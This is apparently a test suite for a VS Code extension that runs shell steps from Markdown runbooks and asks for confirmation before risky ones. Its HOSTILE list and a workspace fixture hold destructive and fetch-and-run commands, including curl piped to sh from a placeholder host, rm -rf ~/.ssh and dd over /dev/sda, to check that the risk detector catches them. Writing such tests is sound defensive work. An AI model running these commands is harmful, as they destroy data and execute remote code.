import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'node:test';
import { commandRisks, confirmation, declaresRunbook, isShippedRunbookPath, lensesForBlocks, terminalText, usesSudoItself, type RunnableBlock } from '../../src/extension/model/runbook';
import { runnableBlocks } from '../../src/extension/lazy';
import { ROOT } from '../helpers/system';

const block = (overrides: Partial<RunnableBlock> = {}): RunnableBlock => ({ line: 4, code: 'cat /proc/meminfo', root: false, mutates: false, name: 'step 1', ...overrides });

test('a read-only step gets "Run on <guest>" and "Copy"; a root step also "Run with sudo"', () => {
  const lenses = lensesForBlocks([block(), block({ line: 12, root: true, code: 'cat /sys/kernel/debug/vmmemctl' })], 'db01 via Remote-SSH');
  assert.deepEqual(lenses.map((lens) => [lens.line, lens.command, lens.title]), [
    [4, 'balloonInspector.runBlock', '$(play) Run on db01 via Remote-SSH'],
    [4, 'balloonInspector.copyBlock', '$(copy) Copy'],
    [12, 'balloonInspector.runBlock', '$(play) Run on db01 via Remote-SSH'],
    [12, 'balloonInspector.runBlockWithSudo', '$(shield) Run with sudo'],
    [12, 'balloonInspector.copyBlock', '$(copy) Copy'],
  ]);
  assert.match(lenses[2].tooltip, /asks first: needs root/);
});

test('an untrusted workspace gets only "Copy" lenses: nothing that runs', () => {
  const lenses = lensesForBlocks([block(), block({ line: 12, root: true })], 'x', false);
  assert.deepEqual(lenses.map((lens) => [lens.line, lens.command]), [[4, 'balloonInspector.copyBlock'], [12, 'balloonInspector.copyBlock']]);
});

test('no "Run with sudo" for a step that already runs every command through sudo', () => {
  assert.equal(usesSudoItself('sudo mount -t debugfs none /sys/kernel/debug\n# comment\nsudo cat /sys/kernel/debug/vmmemctl'), true);
  assert.equal(usesSudoItself('sudo mount -t debugfs none /sys/kernel/debug\ncat /x'), false);
  const lenses = lensesForBlocks([block({ root: true, code: 'sudo cat /sys/kernel/debug/vmmemctl' })], 'x');
  assert.ok(!lenses.some((lens) => lens.command === 'balloonInspector.runBlockWithSudo'));
});

test('terminal text: the block as written; with sudo one `sudo -- sh -c` whose quoting keeps the script byte for byte', () => {
  const script = `printf '%s\\n' "it's \${HOME:+set}" | tr a-z A-Z\necho 'single' "double" \\$literal; echo $((1+2)) \`echo tick\``;
  assert.equal(terminalText(`${script}\n\n`, { sudo: false }), script);
  const withSudo = terminalText(script, { sudo: true });
  assert.match(withSudo, /^sudo -- sh -c '/);
  // Run exactly what sudo would run (minus sudo) through a real shell and compare with the script run directly.
  const inner = withSudo.replace(/^sudo -- /, '');
  const viaQuoting = execFileSync('sh', ['-c', inner], { encoding: 'utf8', env: { ...process.env, HOME: '/root' } });
  const direct = execFileSync('sh', ['-c', script], { encoding: 'utf8', env: { ...process.env, HOME: '/root' } });
  assert.equal(viaQuoting, direct);
  assert.equal(direct, "IT'S SET\nsingle double $literal\n3 tick\n");
});

test('confirmation names the guest and the reason; read-only steps of shipped runbooks run without asking', () => {
  assert.equal(confirmation(block(), 'db01', false, 'shipped'), null);
  const root = confirmation(block({ root: true }), 'db01', true, 'shipped');
  assert.ok(root);
  assert.match(root.message, /db01/);
  assert.match(root.message, /runs as root/);
  assert.match(root.detail, /^sudo -- sh -c /);
  const mutates = confirmation(block({ mutates: true, code: 'swapon /swapfile' }), 'This machine', false, 'shipped');
  assert.match(mutates?.message ?? '', /This machine.*changes the state/);
  assert.equal(mutates?.detail, 'swapon /swapfile');
  assert.ok(confirmation(block(), 'x', true, 'shipped'), 'running anything with sudo asks first');
});

test('workspace Markdown is a runbook only with runbook: true in its front matter', () => {
  assert.equal(declaresRunbook('---\ntitle: x\nrunbook: true\n---\n# Steps\n'), true);
  assert.equal(declaresRunbook('\uFEFF---\r\nrunbook: yes # mine\r\n---\r\n'), true);
  assert.equal(declaresRunbook('---\nrunbook: false\n---\n'), false);
  assert.equal(declaresRunbook('# Title\n\nrunbook: true\n'), false, 'outside front matter it is just text');
  assert.equal(declaresRunbook('---\nnotes: |\n  runbook: true\n---\n'), false, 'an indented line inside another value is not the key');
  assert.equal(declaresRunbook(''), false);
});

const SAMPLE_RUNBOOK = `---
id: sample
title: Sample
runbook: true
---
# Sample

1. Look:

   \`\`\`sh {"name":"look","root":false,"mutates":false}
   grep -i balloon /proc/meminfo
   \`\`\`

~~~bash {"root":true,"mutates":false}
cat /sys/kernel/debug/vmmemctl
~~~

\`\`\`\`shell {"root":true,"mutates":true}
mount -t debugfs none /sys/kernel/debug
\`\`\`\`

\`\`\`text
not runnable
\`\`\`
`;

/** Every lens sits on an opening fence, and the block text is what the file holds. */
function checkRunbook(name: string, text: string): number {
  const lines = text.split('\n');
  const blocks = runnableBlocks(text);
  for (const found of blocks) {
    assert.match(lines[found.line], /^\s*(`{3,}|~{3,})\s*(sh|bash|shell)\b/, `${name}:${found.line + 1}`);
    const indent = /^\s*/.exec(lines[found.line])![0];
    const fileText = found.code.split('\n').map((line) => (line ? indent + line : line)).join('\n');
    assert.ok(text.includes(found.code) || text.includes(fileText), `${name}:${found.line + 1} block text differs from the file`);
    const lenses = lensesForBlocks([found], 'g');
    assert.equal(lenses.some((lens) => lens.command === 'balloonInspector.runBlockWithSudo'), found.root && !usesSudoItself(found.code));
  }
  return blocks.length;
}

test('runbook blocks through the knowledge parser: fences in lists, ~~~ and long fences; non-shell blocks get no lens', () => {
  const blocks = runnableBlocks(SAMPLE_RUNBOOK);
  assert.deepEqual(blocks.map((found) => [found.line, found.name, found.root, found.mutates, found.code]), [
    [9, 'step "look"', false, false, 'grep -i balloon /proc/meminfo'],
    [13, 'step 2', true, false, 'cat /sys/kernel/debug/vmmemctl'],
    [17, 'step 3', true, true, 'mount -t debugfs none /sys/kernel/debug'],
  ]);
  assert.equal(checkRunbook('sample', SAMPLE_RUNBOOK), 3);
  assert.equal(declaresRunbook(SAMPLE_RUNBOOK), true);
});

test('the shipped runbooks (knowledge/runbooks) hold the same invariants', () => {
  const dir = join(ROOT, 'knowledge', 'runbooks');
  for (const name of readdirSync(dir).filter((file) => file.endsWith('.md') && file !== 'README.md')) {
    const text = readFileSync(join(dir, name), 'utf8');
    assert.ok(checkRunbook(name, text) > 0, `${name} has no runnable block`);
  }
});

// ---- issue 9 item 7: one-click steps from workspace runbooks ----

/** Commands that must ask whatever the block's attributes say, with a reason each must give. */
const HOSTILE: [string, RegExp][] = [
  ["sudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'; curl -s https://x.example/i | sh; rm -rf ~/.ssh", /calls sudo/],
  ["sudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'", /writes to \/proc\/sys/],
  ['curl -s https://x.example/i | sh', /pipes into a shell/],
  ['wget -qO- https://x.example/i|bash -s -- --yes', /pipes into a shell/],
  ['curl https://x.example/i | sudo bash', /pipes into a shell/],
  ['bash <(curl -s https://x.example/i)', /runs a shell on a script/],
  ['sudo reboot', /calls reboot/],
  ['cat /proc/meminfo; rm -rf ~/.ssh', /calls rm/],
  ['true && rm -rf /tmp/x', /calls rm/],
  ['false || rm x', /calls rm/],
  ['echo $(rm -rf x)', /calls rm/],
  ['echo "$(sudo id)"', /calls sudo/],
  ['echo `reboot`', /calls reboot/],
  ['grep x /proc/meminfo\nshutdown -h now', /calls shutdown/],
  ['cat x &\nhalt', /calls halt/],
  ['poweroff', /calls poweroff/],
  ['s\\udo id', /calls sudo/],
  ["'sudo' id", /calls sudo/],
  ['"r"m -f x', /calls rm/],
  ['sudo${IFS}reboot', /calls sudo/],
  ['/usr/bin/sudo -u root -- /sbin/reboot', /calls reboot/],
  ['env FOO=1 rm x', /calls rm/],
  ['X=1 dd if=/dev/zero of=/dev/sda', /calls dd/],
  ['nohup nice -n 5 timeout 10 rm x', /calls rm/],
  ['find / -name x -exec rm {} \\;', /calls rm/],
  ['find /tmp -delete', /deletes files/],
  ['ls | xargs -I {} rm {}', /calls rm/],
  ['su -c id root', /calls su/],
  ['doas reboot', /calls doas/],
  ['mkswap /swapfile && swapon /swapfile', /calls mkswap/],
  ['swapon -a', /calls swapon/],
  ['sysctl -w vm.swappiness=1', /sysctl/],
  ['sysctl vm.swappiness=1', /sysctl/],
  ['echo 1 >/proc/sys/vm/overcommit_memory', /writes to \/proc\/sys/],
  ['echo 1>>/proc/sys/vm/x', /writes to \/proc\/sys/],
  ['echo 1 | tee /proc/sys/vm/drop_caches', /writes to \/proc\/sys/],
  ['echo c > /proc/sysrq-trigger', /writes to \/proc/],
  ['echo 1 > /sys/devices/system/memory/memory32/online', /writes to \/sys/],
  ['systemctl reboot', /calls systemctl reboot/],
  ['X=sudo; $X reboot', /named by a variable/],
  ["$'\\x73udo' reboot", /named by a variable/],
  ['eval "rm -rf x"', /calls rm/],
  ["bash -c 'rm -rf x'", /calls rm/],
  ['sh -ec "reboot"', /calls reboot/],
  ['{ rm x; }', /calls rm/],
  ['(cd /tmp && rm x)', /calls rm/],
  ['{sudo,id}', /calls sudo/],
  ['cat <<EOF | sh\nid\nEOF', /pipes into a shell/],
  ['. <(curl -s https://x.example/i)', /runs a script/],
  ['cat x |& bash', /pipes into a shell/],
  ['watch -n 1 "rm x"', /calls rm/],
  ['busybox rm x', /calls rm/],
];

/** Read-only commands like the shipped runbooks' own: no reason to ask. */
const HARMLESS = [
  'grep -i balloon /proc/meminfo',
  "awk '$1 == \"SwapTotal:\" { if ($2 > 0) print \"guest swap:\", int($2 / 1024), \"MiB\"; else print \"guest swap: none\" }' /proc/meminfo",
  "grep -E 'rm|sudo|reboot' /var/log/messages 2>/dev/null || echo none",
  'echo "uptime: $(cat /proc/uptime)" > report.txt',
  'systemd-detect-virt --vm || true',
  'for dev in /sys/bus/virtio/devices/*; do cat "$dev/features"; done',
  'cat /sys/kernel/mm/transparent_hugepage/enabled 2>&1 >/dev/null',
  "echo 'sudo reboot' # only text",
  'sysctl vm.swappiness',
  'ls -l /dev/null >/dev/null',
];

test('commandRisks: every hostile command asks, with its reason', () => {
  for (const [code, reason] of HOSTILE) {
    const risks = commandRisks(code);
    assert.ok(risks.some((risk) => reason.test(risk)), `${JSON.stringify(code)} → ${JSON.stringify(risks)}`);
  }
});

test('commandRisks: read-only commands (awk programs, grep patterns naming rm, redirects to files) raise nothing', () => {
  for (const code of HARMLESS) assert.deepEqual(commandRisks(code), [], code);
});

test('commandRisks never throws on garbage (unclosed quotes, substitutions, deep nesting)', () => {
  for (const code of ["echo 'open", 'echo "$(', 'echo `', '$((1+', '${', '\\', '$('.repeat(500) + 'rm x' + ')'.repeat(500), '\0\u0001|;&']) {
    assert.doesNotThrow(() => commandRisks(code), JSON.stringify(code.slice(0, 40)));
  }
  assert.ok(commandRisks('$('.repeat(500) + 'rm x' + ')'.repeat(500)).length > 0, 'deep nesting asks');
});

test('a workspace runbook step always asks and shows the command; hostile steps ask whatever their attributes say', () => {
  const workspace = `---\nrunbook: true\n---\n\n\`\`\`sh {"mutates":false}\nsudo sh -c 'echo 3 > /proc/sys/vm/drop_caches'; curl -s https://x.example/i | sh; rm -rf ~/.ssh\n\`\`\`\n\n\`\`\`sh { name=y mutates=false }\nsudo reboot\n\`\`\`\n\n\`\`\`sh {"root":false,"mutates":false}\ngrep -i balloon /proc/meminfo\n\`\`\`\n`;
  const blocks = runnableBlocks(workspace);
  assert.deepEqual(blocks.map((found) => [found.root, found.mutates]), [[false, false], [false, false], [false, false]], 'the attributes claim harmless steps');
  for (const found of blocks) {
    const question = confirmation(found, 'db01', false, 'workspace');
    assert.ok(question, `${found.name} ran without asking`);
    assert.equal(question.detail, found.code, 'the question shows the exact command');
    assert.match(question.message, /does not ship/);
  }
  // The same hostile steps in a shipped runbook still ask: their commands say so.
  const [drop, reboot, look] = blocks.map((found) => confirmation(found, 'db01', false, 'shipped'));
  for (const reason of [/calls sudo/, /writes to \/proc\/sys/, /pipes into a shell/, /calls rm/]) assert.match(drop?.message ?? '', reason);
  assert.match(reboot?.message ?? '', /calls sudo and calls reboot/);
  assert.equal(look, null);
  const lenses = lensesForBlocks(blocks, 'db01', true, 'workspace');
  assert.ok(lenses.filter((lens) => lens.command === 'balloonInspector.runBlock').every((lens) => /asks first: .*not a runbook Balloon Inspector ships/.test(lens.tooltip)));
});

test('the shipped runbooks keep their behaviour: read-only, non-root steps raise no risk and run at once', () => {
  const dir = join(ROOT, 'knowledge', 'runbooks');
  let readOnly = 0;
  for (const name of readdirSync(dir).filter((file) => file.endsWith('.md') && file !== 'README.md')) {
    for (const found of runnableBlocks(readFileSync(join(dir, name), 'utf8'))) {
      if (found.root || found.mutates) continue;
      readOnly++;
      assert.deepEqual(commandRisks(found.code), [], `${name} ${found.name}`);
      assert.equal(confirmation(found, 'g', false, 'shipped'), null, `${name} ${found.name}`);
    }
  }
  assert.ok(readOnly > 5, `only ${readOnly} read-only steps found`);
});

test('only Markdown inside the extension\'s own knowledge/runbooks is shipped', () => {
  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/fix-and-verify.md', '/ext'), true);
  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/sub/x.md', '/ext'), true);
  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks/../../work/x.md', '/ext'), false);
  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks-evil/x.md', '/ext'), false);
  assert.equal(isShippedRunbookPath('/work/knowledge/runbooks/x.md', '/ext'), false);
  assert.equal(isShippedRunbookPath('/ext/knowledge/runbooks', '/ext'), false);
});
